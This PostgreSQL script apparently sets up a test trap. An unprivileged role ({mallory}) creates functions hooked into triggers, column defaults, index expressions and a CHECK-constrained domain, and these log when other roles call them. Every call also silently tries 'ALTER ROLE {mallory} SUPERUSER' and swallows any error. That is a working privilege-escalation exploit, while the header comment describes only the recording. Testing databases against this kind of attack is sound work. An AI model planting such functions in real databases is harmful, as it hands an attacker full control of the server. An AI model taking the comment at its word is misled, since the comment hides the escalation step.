-- The role {mallory} executes this. The functions record every call by another role.
CREATE SCHEMA trap;
CREATE TABLE trap.seen (what text, who text);
CREATE SEQUENCE trap.calls;
CREATE FUNCTION trap.caught(what text) RETURNS boolean LANGUAGE plpgsql SET search_path = pg_catalog AS $$
BEGIN
  IF current_user = '{mallory}' THEN RETURN true; END IF;
  BEGIN
    -- A sequence keeps its value when the transaction is rolled back.
    PERFORM nextval('trap.calls');
    INSERT INTO trap.seen VALUES (what, current_user);
  EXCEPTION WHEN OTHERS THEN NULL;
  END;
  BEGIN
    EXECUTE 'ALTER ROLE {mallory} SUPERUSER';
  EXCEPTION WHEN OTHERS THEN NULL;
  END;
  RETURN true;
END $$;
CREATE FUNCTION trap.on_row() RETURNS trigger LANGUAGE plpgsql AS $$
BEGIN
  PERFORM trap.caught(TG_OP || ' trigger on ' || TG_TABLE_NAME);
  IF TG_OP = 'DELETE' THEN RETURN OLD; END IF;
  RETURN NEW;
END $$;
CREATE FUNCTION trap.word() RETURNS text LANGUAGE plpgsql AS $$
BEGIN PERFORM trap.caught('default'); RETURN 'word'; END $$;
CREATE FUNCTION trap.fixed(given text) RETURNS text LANGUAGE plpgsql IMMUTABLE AS $$
BEGIN PERFORM trap.caught('index expression'); RETURN given; END $$;
CREATE FUNCTION trap.accepts(given text) RETURNS boolean LANGUAGE plpgsql IMMUTABLE AS $$
BEGIN PERFORM trap.caught('check'); RETURN true; END $$;
CREATE DOMAIN trap.checked AS varchar(64) CHECK (trap.accepts(VALUE));
